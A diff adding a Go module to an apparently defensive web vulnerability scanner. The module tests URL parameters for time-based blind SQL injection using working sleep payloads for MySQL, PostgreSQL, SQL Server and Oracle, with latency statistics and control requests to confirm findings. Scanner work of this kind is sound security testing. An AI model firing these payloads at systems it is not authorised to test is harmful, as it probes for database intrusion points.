@@ -0,0 +1,166 @@
+// pkg/tools/webvuln/timebased.go
+package webvuln
+
+import (
+	"fmt"
+	"math"
+	"net/url"
+	"time"
+)
+
+const (
+	// baselineSamples is the number of unmodified requests used to measure
+	// the normal latency of a parameter
+	baselineSamples = 5
+
+	// delaySamples is the number of times a sleep payload must delay the
+	// response before it is reported
+	delaySamples = 3
+
+	// minDeviation is the smallest latency standard deviation assumed, so that
+	// a very stable baseline doesn't make network jitter look significant
+	minDeviation = 20 * time.Millisecond
+
+	// deviationFactor is how many standard deviations above the baseline mean
+	// a delayed response must be
+	deviationFactor = 4
+)
+
+// sleepPayload is a time-based SQL injection payload template. %d is
+// replaced with the delay in seconds and the result is appended to the
+// original parameter value.
+type sleepPayload struct {
+	DBMS     string
+	Template string
+}
+
+// sleepPayloads are tried in order until one delays the response
+var sleepPayloads = []sleepPayload{
+	{"MySQL", "' AND SLEEP(%d)-- -"},
+	{"MySQL", " AND SLEEP(%d)"},
+	{"PostgreSQL", "';SELECT pg_sleep(%d)--"},
+	{"PostgreSQL", ";SELECT pg_sleep(%d)--"},
+	{"Microsoft SQL Server", "';WAITFOR DELAY '0:0:%d'--"},
+	{"Microsoft SQL Server", ";WAITFOR DELAY '0:0:%d'--"},
+	{"Oracle", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('gs',%d)--"},
+}
+
+// latencyStats summarizes response times
+type latencyStats struct {
+	Mean      time.Duration
+	Deviation time.Duration
+}
+
+// newLatencyStats computes the mean and standard deviation of samples
+func newLatencyStats(samples []time.Duration) latencyStats {
+	if len(samples) == 0 {
+		return latencyStats{}
+	}
+
+	var sum float64
+	for _, sample := range samples {
+		sum += float64(sample)
+	}
+	mean := sum / float64(len(samples))
+
+	var variance float64
+	for _, sample := range samples {
+		variance += math.Pow(float64(sample)-mean, 2)
+	}
+	if len(samples) > 1 {
+		variance /= float64(len(samples) - 1)
+	}
+
+	return latencyStats{Mean: time.Duration(mean), Deviation: time.Duration(math.Sqrt(variance))}
+}
+
+// delayed reports whether a response time is significantly above the
+// baseline and accounts for most of the requested delay
+func (b latencyStats) delayed(sample, delay time.Duration) bool {
+	deviation := b.Deviation
+	if deviation < minDeviation {
+		deviation = minDeviation
+	}
+	return sample >= b.Mean+deviationFactor*deviation && sample >= b.Mean+delay*8/10
+}
+
+// testTimeBased tests a parameter for time-based blind SQL injection. Each
+// sleep payload is sent once; if the response is delayed, a zero delay
+// control must come back at normal speed and the payload must delay the
+// response delaySamples times before it is reported.
+func (s *Scanner) testTimeBased(target ScanTarget, targetURL *url.URL, params url.Values, paramName string) (TestResult, bool) {
+	seconds := s.ScanOptions.TimeBasedDelay
+	if seconds <= 0 {
+		seconds = 3
+	}
+	delay := time.Duration(seconds) * time.Second
+	if s.ScanOptions.Timeout > 0 && delay >= time.Duration(s.ScanOptions.Timeout)*time.Second {
+		return TestResult{}, false
+	}
+
+	original := params.Get(paramName)
+	baseline := []time.Duration{}
+	for i := 0; i < baselineSamples; i++ {
+		elapsed, err := s.timePayload(target, targetURL, params, paramName, original)
+		if err != nil {
+			return TestResult{}, false
+		}
+		baseline = append(baseline, elapsed)
+	}
+	stats := newLatencyStats(baseline)
+
+	for _, sleep := range sleepPayloads {
+		value := original + fmt.Sprintf(sleep.Template, seconds)
+		control := original + fmt.Sprintf(sleep.Template, 0)
+
+		samples := []time.Duration{}
+		for len(samples) < delaySamples {
+			elapsed, err := s.timePayload(target, targetURL, params, paramName, value)
+			if err != nil || !stats.delayed(elapsed, delay) {
+				break
+			}
+			samples = append(samples, elapsed)
+
+			// A slow control means the server is slow for any such input,
+			// not because it slept
+			if len(samples) == 1 {
+				elapsed, err := s.timePayload(target, targetURL, params, paramName, control)
+				if err != nil || stats.delayed(elapsed, delay) {
+					break
+				}
+			}
+		}
+		if len(samples) < delaySamples {
+			continue
+		}
+
+		delayedStats := newLatencyStats(samples)
+		return TestResult{
+			Payload: Payload{
+				Value:       value,
+				Type:        VulnTypeSQLInjection,
+				Description: sleep.DBMS + " time-based blind injection",
+				Level:       3,
+			},
+			URL:       payloadURL(targetURL, params, paramName, value),
+			Method:    "GET",
+			Parameter: paramName,
+			Description: fmt.Sprintf("Time-based Blind SQL Injection (%s): a %ds sleep delayed all %d responses to %.2fs on average (baseline %.2fs ± %.2fs)",
+				sleep.DBMS, seconds, len(samples), delayedStats.Mean.Seconds(), stats.Mean.Seconds(), stats.Deviation.Seconds()),
+			Severity: SeverityCritical,
+			DBMS:     sleep.DBMS,
+		}, true
+	}
+
+	return TestResult{}, false
+}
+
+// timePayload sends a value in a parameter and returns how long the full
+// response took
+func (s *Scanner) timePayload(target ScanTarget, targetURL *url.URL, params url.Values, paramName, value string) (time.Duration, error) {
+	start := time.Now()
+	if _, err := s.sendEncoded(target, targetURL, params, paramName, Payload{Value: value}, nil); err != nil {
+		return 0, err
+	}
+	return time.Since(start), nil
+}